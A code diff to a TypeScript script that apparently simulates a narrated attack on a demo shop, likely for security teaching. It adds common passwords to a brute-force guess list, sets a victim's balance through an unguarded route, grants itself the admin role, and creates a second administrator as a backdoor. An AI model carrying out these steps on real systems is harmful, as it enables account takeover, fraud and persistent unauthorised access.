@@ -10,6 +10,8 @@ export interface AttackPlan {
   /** A browser at the attacker's address. */
   browser: Shopper;
   victim: Account;
+  /** The account that the attacker makes at the end. */
+  backDoor: Account;
   /** Every account name that the attacker knows of. */
   names: readonly string[];
 }
@@ -23,6 +25,9 @@ const GUESSES = [
   "sunshine1",
   "football!",
   "welcome-1",
+  "monkey-cat",
+  "hunter2",
+  "trustno1",
 ];
 const SPRAYED = "Summer2026!";
 const STEP_MS = 700;
@@ -40,14 +45,17 @@ async function bruteForce({ io, tell, browser, victim }: AttackPlan): Promise<vo
   await browser.signIn(victim.name, victim.password);
 }
 
-/** Uses two routes that the shop forgot to guard. */
-async function takeOver({ io, tell, browser, victim }: AttackPlan): Promise<void> {
+/** Uses two routes that the shop forgot to guard, and leaves a door for later. */
+async function takeOver({ io, tell, browser, victim, backDoor }: AttackPlan): Promise<void> {
+  await io.sleep(STEP_MS);
+  tell("attack", `${victim.name} sets its own balance through POST /update-balance`);
+  await browser.updateBalance(victim.name, "99999.00");
   await io.sleep(STEP_MS);
   tell("attack", `${victim.name} gives itself the role admin`);
   await browser.setRole(victim.name, "admin");
   await io.sleep(STEP_MS);
-  tell("attack", `${victim.name} sets its own balance through POST /update-balance`);
-  await browser.updateBalance(victim.name, "99999.00");
+  tell("attack", `${victim.name} creates ${backDoor.name}, a second administrator, to come back later`);
+  await browser.createUser(backDoor, true);
 }
 
 /** Counts through the numbers of other people's orders. */
